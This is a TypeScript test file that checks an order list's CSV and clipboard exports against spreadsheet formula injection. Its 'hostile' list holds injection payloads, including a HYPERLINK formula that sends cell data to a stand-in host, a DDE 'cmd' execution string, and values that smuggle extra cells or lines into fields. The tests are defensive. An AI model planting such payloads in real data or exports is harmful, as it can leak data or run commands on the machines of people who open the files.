import fc from 'fast-check'
import Papa from 'papaparse'
import { describe, expect, it } from 'vitest'
import type { Words } from '../../src-renderer/kit/index.ts'
import { columnNames, orderCsv, orderPaste } from '../../src-renderer/orders/list/columns.tsx'
import type { OrderRow } from '../../src-shared/service/readers/orders/row.ts'

const words = ((key: string, data?: { fabric?: string }) => data?.fabric ?? key) as Words<'orders-list'>

const order = (more: Partial<OrderRow>): OrderRow =>
  ({
    orderId: '51061',
    customerName: null,
    customerCity: null,
    status: null,
    retailer: null,
    accountType: null,
    factory: null,
    combo: null,
    trackingNumber: null,
    fabrics: [],
    express: false,
    returning: false,
    createdAt: null,
    paidAt: null,
    inProductionAt: null,
    statusChangedAt: null,
    ...more,
  }) as OrderRow

/** An order that says the same text wherever a service gives one. */
const saying = (text: string) =>
  order({
    orderId: text,
    customerName: text,
    customerCity: text,
    status: text,
    retailer: text,
    accountType: text,
    factory: text,
    combo: text,
    trackingNumber: text,
    fabrics: [
      { code: text, name: text, archived: false },
      { code: text, name: null, archived: true },
    ],
  })

const csv = (rows: OrderRow[]) => orderCsv(rows, columnNames, words)
const paste = (rows: OrderRow[]) => orderPaste(rows, columnNames, words)
const cells = (text: string, delimiter: string) =>
  Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { delimiter }).data.flat()

/** What spreadsheet programs calculate, in the wide letters of Chinese too. */
const runs = (cell: string) => /^\s*[=+\-@＝＋－＠]/.test(cell)
/** A cell of our own begins with none of the signs that some programs drop, either. */
const beginsBlank = (cell: string) => /^[\t\r]/.test(cell)

const hostile = [
  '=HYPERLINK("https://evil.example?"&A2,"Kingsmill")',
  "=cmd|'/c calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\u00A0=1+1',
  '＝1+1',
  '＠SUM(1)',
  '"=1+1"',
  '"",=1+1',
  'Amelia","=1+1',
  'Amelia;=1+1',
  'Amelia\t=1+1',
  'Amelia\r\n=1+1',
  'Amelia\u2028=1+1',
  'Amelia;\'"=1+1',
]

describe('orders as CSV', () => {
  it.each(hostile)('never run %j', name => {
    const text = csv([saying(name)])
    // Another language’s spreadsheet takes another sign between the cells.
    for (const delimiter of [',', ';', '\t', '|']) expect(cells(text, delimiter).filter(runs)).toEqual([])
    expect(cells(text, ',').filter(beginsBlank)).toEqual([])
    expect(Papa.parse<string[]>(text, { delimiter: ',', skipEmptyLines: true }).data).toHaveLength(2)
  })

  it('say what the order says where it is harmless', () => {
    const name = 'Seán “Jack” O’Brien, 陈晓东 "the elder"; a-b = c'
    const text = csv([order({ customerName: name, createdAt: Date.UTC(2026, 10, 23, 8) })])
    expect(text.startsWith('\uFEFF')).toBe(true)
    const [head, row] = Papa.parse<string[]>(text.slice(1), { delimiter: ',' }).data
    expect(row?.[head?.indexOf('column.customer') ?? -1]).toBe(name)
    expect(row?.[0]).toBe('51061')
  })

  it('never run any text', () => {
    const part = fc.constantFrom(
      '=',
      '+',
      '-',
      '@',
      '＝',
      '\t',
      '\r',
      '\n',
      ' ',
      '"',
      "'",
      ';',
      ',',
      '|',
      'A',
      '1',
      '(',
    )
    fc.assert(
      fc.property(fc.array(part, { maxLength: 12 }), parts => {
        for (const delimiter of [',', ';', '\t', '|'])
          expect(cells(csv([saying(parts.join(''))]), delimiter).filter(runs)).toEqual([])
      }),
    )
  })
})

describe('copied orders', () => {
  it.each(hostile)('never run %j, and keep their cells', name => {
    const text = paste([saying(name), order({})])
    expect(cells(text, '\t').filter(runs)).toEqual([])
    const lines = Papa.parse<string[]>(text, { delimiter: '\t' }).data
    expect(lines.map(line => line.length)).toEqual(lines.map(() => columnNames.length + 2))
    expect(lines).toHaveLength(3)
    // A program that knows no quotes splits at each tab and line.
    expect(text.split(/[\t\r\n]/).filter(runs)).toEqual([])
  })
})
